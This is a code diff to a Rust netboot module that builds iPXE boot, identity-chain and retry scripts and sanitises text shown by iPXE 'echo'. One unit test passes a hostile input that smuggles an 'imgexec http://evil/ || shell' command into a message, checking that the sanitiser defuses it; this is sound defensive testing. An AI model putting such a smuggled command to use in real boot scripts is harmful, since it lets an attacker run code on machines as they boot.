@@ -1,11 +1,43 @@
 //! Network boot: the iPXE scripts that hand a machine from its firmware (or the TFTP stage) to
-//! the boot assets served over HTTP. Shared by every frontend that answers a netboot client.
+//! the boot assets served over HTTP, and machine assignments — which machine boots what — with
+//! the records of who booted. Shared by every frontend that answers a netboot client.
+
+mod assignment;
+mod boots;
+mod error;
+pub mod ident;
+mod machines;
+
+pub use assignment::{
+    Assignment, AssignmentSet, AssignmentSpec, BootSpec, DEFAULT_PLATFORM, MAX_ASSIGNMENTS,
+    Selector, SelectorSpec, Source, check_name,
+};
+pub use boots::{BOOTS_PER_MACHINE, BootLog, BootRecord, MAX_BOOTS, Outcome};
+pub use error::NetbootError;
+pub use ident::Identity;
+pub use machines::{AssignmentView, FileStatus, MAX_FILE_BYTES, Machines};
 
 use crate::assets::PxeBoot;
+
+/// The path of the per-machine entry point on the HTTP listener.
+pub const BOOT_PATH: &str = "/pxe/boot.ipxe";
+
+/// The query iPXE fills in with what it knows about the machine: the MAC of the interface it
+/// booted from (`netX`: the most recently opened one, not always `net0`), the SMBIOS UUID and
+/// serial, the DHCP host name (strings URI-encoded by iPXE's `uristring` type, so spaces and
+/// `&` in a serial number survive) and the iPXE build architecture.
+pub const IDENTITY_QUERY: &str = "mac=${netX/mac}&uuid=${uuid}&serial=${serial:uristring}\
+                                  &hostname=${hostname:uristring}&arch=${buildarch}";
 
 /// The iPXE script booting `boot` from `base_url` (the appliance's external PXE URL), or
 /// `None` if the boot names neither kernel + initramfs nor a single UKI.
 pub fn ipxe_script(boot: &PxeBoot, base_url: &str) -> Option<String> {
+    boot_script(boot, base_url, &[])
+}
+
+/// [`ipxe_script`] with `extra_args` appended to the kernel command line (checked when the
+/// assignment carrying them was written: nothing iPXE would expand or split).
+pub fn boot_script(boot: &PxeBoot, base_url: &str, extra_args: &[String]) -> Option<String> {
     let base = base_url.trim_end_matches('/');
     let url = |file: &str| {
         format!(
@@ -13,7 +45,11 @@ pub fn ipxe_script(boot: &PxeBoot, base_url: &str) -> Option<String> {
             boot.schematic_id, boot.version_tag
         )
     };
-    let cmdline = &boot.cmdline;
+    let mut cmdline = boot.cmdline.trim_end().to_string();
+    for arg in extra_args {
+        cmdline.push(' ');
+        cmdline.push_str(arg);
+    }
     let mut script = String::from("#!ipxe\n\nimgfree\n");
     match boot.files.as_slice() {
         [kernel, initramfs] => {
@@ -25,6 +61,50 @@ pub fn ipxe_script(boot: &PxeBoot, base_url: &str) -> Option<String> {
     }
     script.push_str("boot\n");
     Some(script)
+}
+
+/// The script answering a bare `/pxe/boot.ipxe`: it asks again, saying who the machine is.
+pub fn chain_script(base_url: &str) -> String {
+    let base = base_url.trim_end_matches('/');
+    format!(
+        "#!ipxe\n# image-factory: identify this machine to find its assignment\n\
+         chain --replace --autofree {base}{BOOT_PATH}?{IDENTITY_QUERY}\n"
+    )
+}
+
+/// Longest line a retry script shows.
+const MAX_ECHO: usize = 200;
+
+/// `text` as iPXE may `echo` it: characters that iPXE would expand, quote, split or end a
+/// command on (and anything outside printable ASCII) become `_`; at most 200 characters.
+pub fn echo_safe(text: &str) -> String {
+    text.chars()
+        .take(MAX_ECHO)
+        .map(|c| {
+            if c.is_ascii_alphanumeric() || " ._:=,()/+@%-<>[]*".contains(c) {
+                c
+            } else {
+                '_'
+            }
+        })
+        .collect()
+}
+
+/// The script telling a machine what is missing (`lines`, shown after sanitising) and asking
+/// again after `delay_secs` (through the bare entry point, which identifies it anew).
+pub fn retry_script(base_url: &str, lines: &[String], delay_secs: u64) -> String {
+    let base = base_url.trim_end_matches('/');
+    let mut script = String::from("#!ipxe\n");
+    for line in lines {
+        script.push_str("echo image-factory: ");
+        script.push_str(&echo_safe(line));
+        script.push('\n');
+    }
+    script.push_str(&format!(
+        "echo image-factory: retrying in {delay_secs} s\nsleep {delay_secs}\n\
+         chain --replace --autofree {base}{BOOT_PATH}\n"
+    ));
+    script
 }
 
 #[cfg(test)]
@@ -63,5 +143,45 @@ mod tests {
         );
         assert!(!s.contains("initrd"));
         assert!(ipxe_script(&boot(&[]), "http://f").is_none());
+    }
+
+    #[test]
+    fn extra_args_end_the_kernel_line() {
+        let s = boot_script(
+            &boot(&["kernel-amd64", "initramfs-amd64.xz"]),
+            "http://f",
+            &["a=1".into(), "b".into()],
+        )
+        .unwrap();
+        assert!(
+            s.contains("/kernel-amd64 console=ttyS0 talos.platform=metal a=1 b\ninitrd "),
+            "{s}"
+        );
+    }
+
+    #[test]
+    fn the_chain_script_asks_again_with_the_identity() {
+        assert_eq!(
+            chain_script("http://f:8080/"),
+            "#!ipxe\n# image-factory: identify this machine to find its assignment\n\
+             chain --replace --autofree http://f:8080/pxe/boot.ipxe?mac=${netX/mac}&uuid=${uuid}\
+             &serial=${serial:uristring}&hostname=${hostname:uristring}&arch=${buildarch}\n"
+        );
+    }
+
+    #[test]
+    fn retry_scripts_show_nothing_ipxe_would_expand() {
+        let s = retry_script(
+            "http://f",
+            &["seen ${x} \"q\" a;b\nimgexec http://evil/ || shell".into()],
+            30,
+        );
+        assert_eq!(
+            s,
+            "#!ipxe\necho image-factory: seen __x_ _q_ a_b_imgexec http://evil/ __ shell\n\
+             echo image-factory: retrying in 30 s\nsleep 30\n\
+             chain --replace --autofree http://f/pxe/boot.ipxe\n"
+        );
+        assert_eq!(echo_safe(&"x".repeat(500)).len(), MAX_ECHO);
     }
 }
